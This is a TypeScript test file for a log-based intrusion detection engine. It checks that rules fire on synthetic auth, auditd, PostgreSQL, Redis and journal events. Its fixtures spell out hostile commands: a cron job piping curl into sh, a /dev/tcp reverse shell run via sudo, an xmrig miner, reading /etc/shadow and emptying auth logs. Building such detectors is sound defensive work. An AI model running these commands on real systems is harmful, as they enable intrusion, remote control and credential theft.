import type { SecurityEvent } from '@parapet/core'
import { describe, expect, it } from 'vitest'
import { createEngine } from '../../engine/engine.js'
import { builtinRules } from '../../sigma/builtin.js'
import { compileRules } from '../../sigma/compile.js'
import { auditd } from './auditd.js'
import { auth } from './auth.js'
import { context, eventsOf } from './fixtures/said.js'
import { journalJson } from './journal.js'
import { postgresql } from './postgresql.js'
import { redis, redisAclEvents } from './redis.js'

const { rules } = compileRules(await builtinRules())
const names = new Map(rules.rules.map((rule) => [rule.id, rule.name ?? rule.title]))

/** The names of the rules that alert on these events, levels `low` and above. */
const alertsOn = (events: readonly SecurityEvent[]): string[] => {
  const engine = createEngine({ rules })
  const found = new Set<string>()
  for (const told of [...events.flatMap((event, n) => [...engine.process(event, n + 1)]), ...engine.flush()]) {
    const { rule } = told.alert
    if (rule.level !== 'informational') found.add(names.get(rule.id) ?? '')
  }
  return [...found].toSorted()
}
const host = (...lines: readonly string[]): string[] =>
  alertsOn(
    eventsOf(
      auth,
      lines.map((line, n) => `Nov 22 03:04:${String(10 + n)} web01 ${line}`),
    ),
  )
const repeat = (times: number, line: string): string[] => Array.from({ length: times }, () => line)
const sudo = (command: string): string => `sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=${command}`

describe('lines of a host set off the rules that are meant for them', () => {
  it.each<[string, string[], string[]]>([
    [
      'wrong passwords for sudo',
      repeat(3, `sudo: alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh`),
      ['sudo-failures'],
    ],
    ['not in sudoers', ['sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh'], ['sudo-not-allowed']],
    ['su refused', repeat(3, 'su[1]: FAILED SU (to root) alice on pts/0'), ['su-failures']],
    ['root with a password', ['sshd[1]: Accepted password for root from 100.64.0.1 port 5 ssh2'], ['root-login-password']],
    ['root with a key', ['sshd[1]: Accepted publickey for root from 100.64.0.1 port 5 ssh2: ED25519 SHA256:abc'], []],
    ['a console', repeat(3, "login[1]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure"), ['console-login-failures']],
    ['auditd stopped', ['systemd[1]: Stopped auditd.service - Security Auditing Service.'], ['security-service-stopped']],
    ['a web server stopped', ['systemd[1]: Stopped nginx.service - A high performance web server.'], []],
    ['a user', ['useradd[1]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=none'], ['new-user']],
    ['a second root', ["usermod[1]: change user 'bob' UID from '1001' to '0'"], ['second-root']],
    ['a member of docker', ["usermod[1]: add 'bob' to group 'docker'"], ['privileged-group']],
    ['the password of root', ['passwd[1]: pam_unix(passwd:chauthtok): password changed for root'], ['root-password-changed']],
    ['a table of cron', ['crontab[1]: (alice) REPLACE (alice)'], ['crontab-changed']],
    ['a command of cron', ['CRON[1]: (root) CMD (curl -s http://198.18.0.1/x | sh)'], ['suspicious-cron-command']],
    ['a log emptied by sudo', [sudo('/usr/bin/truncate -s 0 /var/log/auth.log')], ['log-cleared']],
    ['a shell to elsewhere by sudo', [sudo('/usr/bin/bash -c bash -i >& /dev/tcp/198.18.0.1/443 0>&1')], ['reverse-shell']],
    ['a tainted kernel', ['kernel: [ 1.0] evil: loading out-of-tree module taints kernel.'], ['kernel-module']],
    [
      'guesses at FTP',
      repeat(
        5,
        'vsftpd[1]: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=bob rhost=198.18.0.1  user=bob',
      ),
      ['brute-force-address', 'brute-force-user'],
    ],
  ])('%s', (_, lines, expected) => {
    expect(host(...lines).filter((name) => !/novel|new-(?:country|device|address|network)|first/.test(name))).toEqual(expected)
  })

  it('and an ordinary day sets off none', () => {
    const day = [
      'CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
      'CRON[1]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
      'CRON[1]: pam_unix(cron:session): session closed for user root',
      sudo('/usr/bin/apt-get update'),
      sudo('/usr/bin/systemctl restart app'),
      sudo('/usr/bin/tail -f /var/log/syslog'),
      'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)',
      'sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice',
      'su[1]: (to postgres) root on none',
      'systemd[1]: Started app.service - The application.',
      'systemd[1]: Stopped session-3.scope - Session 3 of User alice.',
      'systemd-logind[1]: New session 3 of user alice.',
      'kernel: [ 1.0] IPv6: ADDRCONF(NETDEV_CHANGE): eth0: link becomes ready',
      'passwd[1]: pam_unix(passwd:chauthtok): password changed for alice',
      'groupadd[1]: new group: name=site, GID=1002',
    ]
    expect(host(...day)).toEqual([])
  })
})

describe('records of auditd', () => {
  const command = (serial: number, text: string, user = 'root'): string[] => [
    `node=web01 type=SYSCALL msg=audit(1732273925.${String(serial).padStart(3, '0')}:${serial}): arch=c000003e syscall=59 success=yes pid=5 auid=33 uid=33 comm="x" exe="/usr/bin/${text.split(' ')[0] ?? ''}" key="exec"\u001dAUID="${user}" UID="${user}"`,
    `type=EXECVE msg=audit(1732273925.${String(serial).padStart(3, '0')}:${serial}): argc=9 ${text
      .split(' ')
      .map((word, n) => `a${n}="${word}"`)
      .join(' ')}`,
    `type=PROCTITLE msg=audit(1732273925.${String(serial).padStart(3, '0')}:${serial}): proctitle="x"`,
  ]

  it.each<[string, string[], string[]]>([
    ['a web shell', command(1, 'curl http://198.18.0.1/x', 'www-data'), ['web-user-process']],
    ['a miner', command(1, 'xmrig -o stratum+tcp://198.18.0.1:3333'), ['crypto-miner']],
    ['hashes of passwords', command(1, 'cat /etc/shadow'), ['credential-files-read']],
    [
      'somebody who looks around',
      ['id', 'whoami', 'uname -a', 'ps aux', 'ss -tln', 'sudo -l'].flatMap((text, n) => command(n + 1, text, 'bob')),
      ['reconnaissance'],
    ],
    ['an editor', command(1, 'vi /etc/hosts'), []],
    [
      'audit switched off',
      ['type=CONFIG_CHANGE msg=audit(1732273925.1:7): op=set audit_enabled=0 old=1 auid=0 ses=1 res=1'],
      ['security-service-stopped'],
    ],
    [
      'a user',
      [`type=ADD_USER msg=audit(1732273925.1:7): pid=1 uid=0 auid=0 ses=1 msg='op=add-user acct="bob" res=success'`],
      ['new-user'],
    ],
  ])('%s', (_, lines, expected) => {
    expect(alertsOn(eventsOf(auditd, lines))).toEqual(expected)
  })
})

describe('databases', () => {
  const pg = (...texts: readonly string[]): string[] =>
    alertsOn(
      eventsOf(
        postgresql,
        texts.map((text, n) => `2026-11-22 11:12:${String(10 + n)}.000 UTC [9] alice@app ${text}`),
      ),
    )
  it.each<[string, string[], string[]]>([
    ['a program', ["LOG:  statement: COPY x FROM PROGRAM 'id'"], ['postgresql-dangerous-statement']],
    ['a superuser', ['LOG:  statement: ALTER ROLE alice SUPERUSER'], ['postgresql-superuser']],
    ['tables gone', Array.from({ length: 6 }, (_, n) => `LOG:  statement: DROP TABLE t${n}`), ['mass-delete']],
    [
      'nobody knows the address',
      ['FATAL:  no pg_hba.conf entry for host "198.18.0.1", user "a", database "b", no encryption'],
      ['postgresql-stranger'],
    ],
    ['permission denied', Array.from({ length: 10 }, (_, n) => `ERROR:  permission denied for table t${n}`), ['postgresql-denied']],
    ['a query', ['LOG:  statement: SELECT * FROM program WHERE copy = 1'], []],
  ])('PostgreSQL: %s', (_, texts, expected) => {
    expect(pg(...texts)).toEqual(expected)
  })

  it('PostgreSQL: ten guesses at one user', () => {
    expect(pg(...repeat(10, 'FATAL:  password authentication failed for user "alice"'))).toEqual([
      'brute-force-user',
      'database-guessing-user',
    ])
  })

  it('Redis: its log and its ACL LOG', () => {
    const log = (text: string): string[] => alertsOn(eventsOf(redis, [`1:M 22 Nov 2026 11:12:13.123 # ${text}`]))
    expect(log('Possible SECURITY ATTACK detected. It looks. Connection from 198.18.0.1:5 aborted.')).toEqual(['redis-protocol-attack'])
    expect(log("Module 'x' loaded from /tmp/x.so")).toEqual(['redis-dangerous-command'])
    expect(log('Ready to accept connections')).toEqual([])
    const entry = {
      count: 1,
      reason: 'command',
      object: 'config|set',
      username: 'app',
      'age-seconds': '0',
      'client-info': 'id=1 addr=198.18.0.1:5',
    }
    expect(alertsOn(redisAclEvents([entry], context.now))).toEqual(['redis-dangerous-command'])
    const guesses = { ...entry, count: 10, reason: 'auth', object: 'AUTH' }
    expect(alertsOn(redisAclEvents([guesses], context.now))).toEqual(
      expect.arrayContaining(['database-guessing-address', 'database-guessing-user']),
    )
  })

  it('a journal entry under the name of another is told', () => {
    const forged = {
      __REALTIME_TIMESTAMP: '1763809933123456',
      _UID: '1000',
      _EXE: '/usr/bin/logger',
      SYSLOG_IDENTIFIER: 'sshd',
      MESSAGE: 'Failed password for root from 203.0.113.9 port 1 ssh2',
    }
    expect(
      alertsOn(
        eventsOf(
          journalJson,
          Array.from({ length: 30 }, () => JSON.stringify(forged)),
        ),
      ),
    ).toEqual(['forged-log-entry'])
  })
})
